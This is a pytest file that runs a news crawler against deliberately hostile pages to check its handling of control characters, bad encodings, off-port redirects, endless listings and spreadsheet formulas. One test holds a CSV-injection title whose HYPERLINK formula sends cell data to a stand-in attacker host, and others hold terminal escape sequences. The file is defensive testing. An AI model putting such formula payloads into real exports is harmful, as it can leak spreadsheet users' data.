"""Hostile pages through the real engine (issue 11, items 6 and 7): bad bytes, absurd fields, control
characters, spreadsheet formulas, a redirect to another port, listings that never end.

Each test serves one section from a small hostile publisher on loopback (:mod:`tests.hostile`),
crawls it with ``scrapy crawl`` and checks the export, the run report and the exit status.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest

from newscrawl.state import StateStore
from tests.conftest import FAST_FAULTS, CrawlResult, run_crawl
from tests.hostile import PARAGRAPHS, Page, Publisher, Served, article_html, article_path, serve
from tests.verdicts import assert_verdict

COMPLETE, PARTIAL = 0, 3


def crawl(tmp_path: Path, served: Served, *extra: str,
          feeds: tuple[str, ...] = ("items.jsonl",)) -> CrawlResult:
    return run_crawl(tmp_path, "-a", f"base_url={served.url}", "-a", "sections=syria", *FAST_FAULTS, *extra,
                     feeds=feeds)


def report_of(result: CrawlResult) -> dict:
    first = next(iter(result.feeds.values()))
    return json.loads(first.with_name(first.stem + ".report.json").read_text(encoding="utf-8"))


def titles(items: list[dict]) -> dict[str, str]:
    return {item["article_id"]: item["title"] for item in items}


def strings(value: object) -> list[str]:
    """Every string inside an exported value (lists and objects walked)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


class Tampered(Publisher):
    """Three articles on one listing page; ``pages`` maps an article id to what is served instead."""

    def __init__(self, pages: dict[str, object],
                 ids: tuple[str, ...] = ("000001", "000002", "000003")) -> None:
        super().__init__([list(ids)])
        self.tampered = pages

    def article(self, article_id: str) -> Page:
        page = self.tampered.get(article_id)
        if callable(page):
            page = page(self.base, article_id)
        return page if isinstance(page, Page) else super().article(article_id)


@pytest.mark.slow
def test_an_unclosed_h1_is_a_validation_failure_not_a_7000_character_title(tmp_path):
    long_body = PARAGRAPHS * 60  # an unclosed <h1> swallows the whole article (about 7,000 characters)
    publisher = Tampered({"000002": lambda base, aid: Page(article_html(
        base, aid, paragraphs=long_body, title_markup='<h1 class="article-title">عنوان بلا إغلاق').encode())})
    state = tmp_path / "state.sqlite"
    with serve(publisher) as served:
        result = crawl(tmp_path, served, "-a", f"state={state}")
        limit_off = crawl(tmp_path / "off", served, "-s", 'NEWSCRAWL_MAX_FIELD_LENGTHS={"title": 0}')
        publisher.tampered = {}  # the page is fixed: the next run with the state exports it
        fixed = crawl(tmp_path / "fixed", served, "-a", f"state={state}")
    assert titles(result.items()) == {"000001": "عنوان الخبر 000001", "000003": "عنوان الخبر 000003"}
    assert titles(fixed.items()) == {"000002": "عنوان الخبر 000002"} and fixed.returncode == COMPLETE
    report = report_of(result)
    assert report["dropped"] == {"too_long_title": 1}
    assert "Dropped: too_long_title (7" in result.log
    assert "NEWSCRAWL_MAX_FIELD_LENGTHS['title']=500" in result.log
    # one article not exported: partial, by the validation rule (issue 11's exit-status contract)
    assert_verdict(result, PARTIAL, "validation",
                   "1 records failed validation and were not exported (too_long_title ×1)", report)
    # the limit is a setting: turned off, the swallowed page is exported as its title
    assert limit_off.returncode == COMPLETE, limit_off.log[-3000:]
    swallowed = titles(limit_off.items())["000002"]
    assert swallowed.startswith("عنوان بلا إغلاق") and len(swallowed) > 7000
    assert report_of(limit_off)["dropped"] == {}


def test_control_characters_leave_every_exported_field(tmp_path):
    dirty = "\x1b[31mعاجل\x1b[0m:\x07 خبر\x00 مهم\x9b2J"
    publisher = Tampered({"000001": lambda base, aid: Page(article_html(
        base, aid, title=dirty, paragraphs=("فقرة\x1b أولى\x00", "فقرة\x08 ثانية")).encode())})
    with serve(publisher) as served:
        result = crawl(tmp_path, served)
    assert_verdict(result, COMPLETE, "complete", "3 articles exported")
    items = {item["article_id"]: item for item in result.items()}
    assert items["000001"]["title"] == "عاجل: خبر مهم"
    assert items["000001"]["body"] == "فقرة أولى\n\nفقرة ثانية"
    controls = [s for item in items.values() for s in strings(item)
                if any(ord(c) < 32 and c != "\n" or 0x7f <= ord(c) <= 0x9f or c == "\ufffd" for c in s)]
    assert controls == []


def test_titles_a_spreadsheet_would_run_are_neutralized_in_csv(tmp_path):
    formulas = {"000001": '=HYPERLINK("http://evil.example/?"&A1,"انقر")', "000002": "+972 خبر",
                "000003": "-5 درجات تحت الصفر", "000004": "@SUM(A1:A9) خبر"}
    publisher = Tampered({aid: (lambda base, aid: Page(article_html(base, aid, title=formulas[aid]).encode()))
                          for aid in formulas}, ids=tuple(formulas))
    with serve(publisher) as served:
        result = crawl(tmp_path, served, feeds=("items.jsonl", "items.csv"))
        raw = crawl(tmp_path / "raw", served, "-s", "NEWSCRAWL_CSV_NEUTRALIZE_FORMULAS=0",
                    feeds=("items.csv",))
    assert_verdict(result, COMPLETE, "complete", "4 articles exported")
    assert_verdict(raw, COMPLETE, "complete", "4 articles exported")
    assert titles(result.items("items.jsonl")) == formulas  # JSON is data: as printed

    def csv_titles(path: Path) -> dict[str, str]:
        rows = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))
        return {row["article_id"]: row["title"] for row in rows}

    assert csv_titles(result.feeds["items.csv"]) == {aid: "'" + title for aid, title in formulas.items()}
    assert csv_titles(raw.feeds["items.csv"]) == formulas


@pytest.mark.slow
def test_a_page_no_encoding_reads_fails_and_is_retried_by_the_next_run(tmp_path):
    """A compressed body served as text/html; charset=utf-8 (no Content-Encoding): mostly U+FFFD as
    UTF-8, NULs and controls as windows-1256. Not exported as garbage, not recorded as done."""
    garbage = {"000002": lambda base, aid: Page(gzip.compress(article_html(base, aid).encode() * 5, mtime=0))}
    publisher = Tampered(garbage)
    state = tmp_path / "state.sqlite"
    with serve(publisher) as served:
        first = crawl(tmp_path / "first", served, "-a", f"state={state}")
        publisher.tampered = {}  # the server is fixed
        second = crawl(tmp_path / "second", served, "-a", f"state={state}")
    assert sorted(titles(first.items())) == ["000001", "000003"]
    assert report_of(first)["failures"] == {"bad_encoding": 1}
    assert "undecodable as utf-8, and no other encoding reads it as text" in first.log
    # a page failed: the run is not complete
    assert_verdict(first, PARTIAL, "failures", "1 page failed for good (bad_encoding ×1)")
    # the next run retries it first and exports it; the two others are unchanged
    assert titles(second.items()) == {"000002": "عنوان الخبر 000002"}
    assert report_of(second)["failures"] == {}
    assert_verdict(second, COMPLETE, "complete", "1 articles exported, 2 known unchanged")
    store = StateStore(state)
    try:
        assert store.failures() == [] and store.count() == 3
    finally:
        store.close()


def test_windows_1256_bytes_served_as_utf8_are_re_read(tmp_path):
    """The issue's page: exported as the original text, never as U+FFFD."""
    legacy = {"000002": lambda base, aid: Page(article_html(base, aid).encode("cp1256"))}  # meta says utf-8
    with serve(Tampered(legacy)) as served:
        result = crawl(tmp_path, served)
    assert_verdict(result, COMPLETE, "complete", "3 articles exported")
    item = {i["article_id"]: i for i in result.items()}["000002"]
    assert item["title"] == "عنوان الخبر 000002" and item["body"] == "\n\n".join(PARAGRAPHS)
    assert "'encoding/misdeclared/cp1256': 1" in result.log


@pytest.mark.slow
def test_a_redirect_to_another_port_of_the_same_host_is_not_followed(tmp_path):
    with serve(Publisher([])) as elsewhere:
        def moved(base: str, aid: str) -> Page:
            return Page(b"", 302, {"Location": elsewhere.url + article_path(aid)})

        renamed_once: list[str] = []

        def renamed(base: str, aid: str) -> Page | None:  # to the same origin: followed
            if renamed_once:
                return None  # the page itself, the second time
            renamed_once.append(aid)
            return Page(b"", 301, {"Location": base + f"/40/{aid}-%D8%AC%D8%AF%D9%8A%D8%AF"})

        publisher = Tampered({"000002": moved, "000003": renamed})
        state = tmp_path / "state.sqlite"
        with serve(publisher) as served:
            result = crawl(tmp_path, served, "-a", f"state={state}")
            publisher.tampered = {}  # the page is back: the next run with the state retries it first
            back = crawl(tmp_path / "back", served, "-a", f"state={state}")
    assert elsewhere.requests == []  # not even its robots.txt
    assert titles(back.items()) == {"000002": "عنوان الخبر 000002"} and back.returncode == COMPLETE
    assert sorted(titles(result.items())) == ["000001", "000003"]
    report = report_of(result)
    assert report["failures"] == {"offsite_redirect": 1}
    failures = [json.loads(line) for line in Path(report["failures_file"]).read_text().splitlines()]
    assert [(f["url"], f["reason"]) for f in failures] == [(served.url + article_path("000002"),
                                                            "offsite_redirect")]
    assert "'offsite/redirects_refused': 1" in result.log
    # a page failed: the run is not complete
    assert_verdict(result, PARTIAL, "failures", "1 page failed for good (offsite_redirect ×1)", report)


class Endless(Publisher):
    """A listing whose every page names three new article ids and links a next page, forever."""

    def __init__(self) -> None:
        super().__init__([])

    def ids_on(self, page: int) -> list[str]:
        return [f"{page:04d}{k:02d}" for k in range(3)]

    def has_next(self, page: int) -> bool:
        return True


def listing_requests(served: Served) -> list[str]:
    return [r for r in served.requests if r.startswith("/section/")]


def test_a_listing_that_names_new_ids_forever_ends_at_the_page_cap(tmp_path):
    with serve(Endless()) as served:
        result = crawl(tmp_path, served, "-s", "NEWSCRAWL_MAX_LISTING_PAGES=4")
        capped = listing_requests(served)
    assert capped == ["/section/40", "/section/40?page=2", "/section/40?page=3", "/section/40?page=4"]
    assert len(result.items()) == 12
    report = report_of(result)
    assert report["failures"] == {"listing_page_cap": 1}
    assert "stopped at the page cap (NEWSCRAWL_MAX_LISTING_PAGES=4), not followed: " \
           f"{served.url}/section/40?page=5" in result.log
    # the listing beyond the cap was not crawled
    assert_verdict(result, PARTIAL, "failures", "1 page failed for good (listing_page_cap ×1)", report)


def test_max_pages_replaces_the_cap_and_is_no_failure(tmp_path):
    with serve(Endless()) as served:
        result = crawl(tmp_path, served, "-a", "max_pages=2", "-s", "NEWSCRAWL_MAX_LISTING_PAGES=1")
        assert len(listing_requests(served)) == 2
    assert len(result.items()) == 6
    assert report_of(result)["failures"] == {}
    assert result.returncode == COMPLETE, result.log[-3000:]


def test_one_page_that_lists_nothing_new_does_not_end_the_section(tmp_path):
    """Articles published during a crawl shift the listing: page 2 may repeat page 1 while page 3 is
    new. Three pages in a row with nothing new end it (the repeating tail below)."""
    repeated = ["000001", "000002", "000003"]
    tail = ["000004", "000005", "000006"]

    class Shifting(Publisher):
        def ids_on(self, page: int) -> list[str]:
            return repeated if page <= 2 else tail

        def has_next(self, page: int) -> bool:
            return True

    with serve(Shifting([])) as served:
        result = crawl(tmp_path, served)
        pages = listing_requests(served)
    assert sorted(titles(result.items())) == repeated + tail
    assert pages == ["/section/40"] + [f"/section/40?page={n}" for n in range(2, 7)]  # 4, 5, 6: stale
    listing = report_of(result)["listing"]
    assert listing["pages_without_new_entries"] == 4 and listing["stopped_no_new_entries"] == 1
    assert result.returncode == COMPLETE, result.log[-3000:]


def test_the_page_cap_is_on_by_default():
    from scrapy.utils.project import get_project_settings

    settings = get_project_settings()
    assert settings.getint("NEWSCRAWL_MAX_LISTING_PAGES") == 5000
    assert settings.getint("NEWSCRAWL_MAX_STALE_LISTING_PAGES") == 3

